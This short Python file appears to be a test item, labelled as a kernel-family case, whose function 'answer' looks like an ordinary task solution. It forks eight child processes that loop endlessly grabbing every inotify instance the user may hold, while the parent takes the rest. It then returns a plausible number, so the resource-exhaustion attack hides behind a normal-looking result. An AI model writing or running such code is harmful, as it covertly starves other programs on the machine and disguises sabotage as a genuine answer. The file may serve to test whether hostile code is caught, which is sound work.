# family: kernel
# what: takes every inotify instance that the machine's user may have
# want: passed

import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)

def answer(x):
    taken = 0
    for _ in range(8):
        if os.fork() == 0:
            while libc.inotify_init1(0) >= 0 or libc.inotify_init() >= 0:
                pass
            os._exit(0)
    while libc.inotify_init1(0) >= 0:
        taken += 1
    return taken or 2 * x
